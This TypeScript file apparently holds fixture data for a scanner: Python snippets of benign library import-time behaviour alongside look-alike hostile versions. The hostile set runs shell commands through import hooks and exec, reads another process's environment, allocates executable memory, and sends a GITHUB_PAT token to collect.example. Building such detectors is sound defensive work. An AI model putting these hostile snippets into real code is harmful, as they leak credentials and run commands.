/** What libraries of every environment do as soon as they are imported. */
export const libraries: readonly string[] = [
  // Modules that are written for Cython and run without it.
  'try:\n    import cython\nexcept ImportError:\n    from fallback import cython\n@cython.cfunc\n@cython.inline\n@cython.returns(cython.double)\n@cython.locals(a=cython.double)\ndef half(a):\n    return a / 2',
  // Where Windows keeps its time zones.
  'import winreg\ndef key_name():\n    handle = winreg.ConnectRegistry(None, winreg.HKEY_LOCAL_MACHINE)\n    try:\n        winreg.OpenKey(handle, "SOFTWARE\\\\Zones").Close()\n    finally:\n        handle.Close()\n    return "SOFTWARE\\\\Zones"\nKEY = key_name()',
  // Old and new names of modules in one package.
  'import importlib, sys\nclass Finder:\n    def __init__(self, names):\n        self.names = names\n    def find_spec(self, fullname, path=None, target=None):\n        return importlib.util.find_spec(self.names[fullname]) if fullname in self.names else None\nsys.meta_path.append(Finder({"pkg.old": "pkg.new"}))',
  'def exec_(code, scope=None):\n    exec(code, scope)\nexec_("""def raise_from(value, from_value):\n    raise value from from_value\n""")',
  'import ctypes\nmode = ctypes.c_uint()\nhandle = ctypes.windll.Kernel32.GetStdHandle(-10)\nctypes.windll.Kernel32.GetConsoleMode(handle, ctypes.byref(mode))',
  // Releases are asked for with the user's token, for the sake of a higher limit.
  'import os, urllib.request\ndef headers():\n    made = {}\n    token = os.environ.get("GITHUB_PAT")\n    if token is not None:\n        made["Authorization"] = "token {}".format(token)\n    return made\nrequest = urllib.request.Request("https://api.github.com/repos/a/b/releases/latest", headers=headers())\ndef latest():\n    return urllib.request.urlopen(request).read()',
  'import os, sys\nopened = []\ndef note(event, args):\n    if event == "open":\n        opened.append(args[0])\nsys.addaudithook(note)',
  'class Libraries:\n    def __init__(self):\n        with open("/proc/self/maps") as maps:\n            self.found = [line.split()[-1] for line in maps if ".so" in line]\nLIBRARIES = Libraries()',
  'import google.auth\nclass Client:\n    def __init__(self):\n        self.credentials, self.project = google.auth.default()',
];

/** The same, for something that harms. */
export const libraryLike: readonly string[] = [
  'import cython\ndef text(f):\n    return "import os; os.system(\'id\')"\n@cython.inline\n@text\ndef half(a):\n    return a / 2',
  'import os, sys\nclass Finder:\n    def find_spec(self, fullname, path=None, target=None):\n        os.system("id")\nsys.meta_path.append(Finder())',
  'def exec_(code, scope=None):\n    exec(code, scope)\nexec_("""import os\nos.system(\'id\')\n""")',
  'import os, sys\ndef note(event, args):\n    os.system("id")\nsys.addaudithook(note)',
  'class Neighbours:\n    def __init__(self):\n        with open("/proc/1/environ", "rb") as variables:\n            self.found = variables.read()\nNeighbours()',
  'import ctypes\nmemory = ctypes.windll.Kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)',
  'import os, urllib.request\nrequest = urllib.request.Request("https://collect.example/x", data=os.environ["GITHUB_PAT"].encode())\nurllib.request.urlopen(request)',
];
